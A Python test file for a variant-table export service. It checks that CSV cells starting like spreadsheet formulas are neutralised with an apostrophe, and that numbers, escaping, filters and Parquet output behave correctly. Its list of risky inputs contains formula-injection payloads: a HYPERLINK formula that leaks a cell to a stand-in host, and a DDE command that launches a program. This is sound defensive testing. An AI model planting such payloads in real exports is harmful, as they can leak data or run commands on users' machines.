"""What leaves the table: safe for spreadsheets, exact for machines."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.variants.exports import ExportFormat, disarmed, export_parquet, export_text
from services.variants.filters import Number
from services.variants.tables import Sort, VariantTable
from tests.unit.variants.support import run

RISKY = ['=HYPERLINK("http://x?"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(A1)", " =1", "\u3000=1", "＝1", "|x", "%x", "-2+3"]
HARMLESS = ["-0.5", "+", "-", "+1e5", "plain", "a=b", "1-2", "p.Lys5Glu", "-.5"]


@pytest.fixture
def table(tmp_path: Path) -> Iterator[VariantTable]:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["chrom", "pos", "ref", "alt", "=note", "effect"])
    for number, note in enumerate([*RISKY, *HARMLESS, 'say "x", y', "two\nlines", "tab\there"], start=1):
        writer.writerow(["1", number, "A", "G", note, -number / 2])
    report = run(tmp_path, text.getvalue(), None, "a.csv")
    assert report.folder is not None, report.refusal
    with VariantTable(report.folder) as opened:
        yield opened


def _read(pieces: Iterator[bytes], delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(pieces).decode(), newline=""), delimiter=delimiter))


def test_no_cell_of_a_csv_begins_like_a_formula(table: VariantTable) -> None:
    header, *lines = _read(export_text(table, ExportFormat.CSV, columns=["file_=note", "file_effect"]))
    notes = [line[0] for line in lines]
    assert notes[: len(RISKY)] == ["'" + text for text in RISKY]
    assert notes[len(RISKY) : len(RISKY) + len(HARMLESS)] == HARMLESS
    assert header[0] == "file_=note"
    assert notes[-3:] == ['say "x", y', "two\nlines", "tab\there"]


def test_numbers_survive_untouched(table: VariantTable) -> None:
    _, *lines = _read(export_text(table, ExportFormat.CSV, columns=["pos", "file_effect"]))
    assert [(int(pos), float(effect)) for pos, effect in lines] == [(number, -number / 2) for number in range(1, len(lines) + 1)]


def test_a_tsv_holds_the_values_as_they_are_on_one_line_each(table: VariantTable) -> None:
    text = b"".join(export_text(table, ExportFormat.TSV, columns=["pos", "file_=note"])).decode()
    lines = text.split("\n")
    assert lines[0] == "pos\tfile_=note"
    assert lines[1] == f"1\t{RISKY[0]}"
    assert lines[-3:] == [f"{table.rows - 1}\ttwo\\nlines", f"{table.rows}\ttab\\there", ""]


def test_filter_sort_and_columns_hold_for_every_format(table: VariantTable, tmp_path: Path) -> None:
    condition, sort = Number("pos", 3, 5), [Sort("pos", True)]
    _, *lines = _read(export_text(table, ExportFormat.TSV, condition, sort, ["pos"]), "\t")
    assert lines == [["5"], ["4"], ["3"]]
    assert export_parquet(table, tmp_path / "out.parquet", condition, sort, ["pos", "alt"]) == 3
    assert pq.read_table(tmp_path / "out.parquet").to_pydict() == {"pos": [5, 4, 3], "alt": ["G"] * 3}


def test_an_empty_selection_is_a_header_and_an_empty_table(table: VariantTable, tmp_path: Path) -> None:
    nothing = Number("pos", 10_000)
    assert _read(export_text(table, ExportFormat.CSV, nothing, columns=["pos"])) == [["pos"]]
    assert export_parquet(table, tmp_path / "out.parquet", nothing, columns=["pos"]) == 0
    assert pq.read_table(tmp_path / "out.parquet").column_names == ["pos"]


@given(st.text(max_size=40))
def test_a_disarmed_text_is_the_text_or_the_text_after_an_apostrophe(text: str) -> None:
    safe = disarmed(text)
    assert safe in (text, "'" + text)
    first = safe.lstrip()[:1]
    if first in tuple("=@|%＝＋－＠") and first:
        raise AssertionError(safe)


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_text_that_is_a_number_is_left_alone(number: float) -> None:
    assert disarmed(repr(number)) == repr(number)
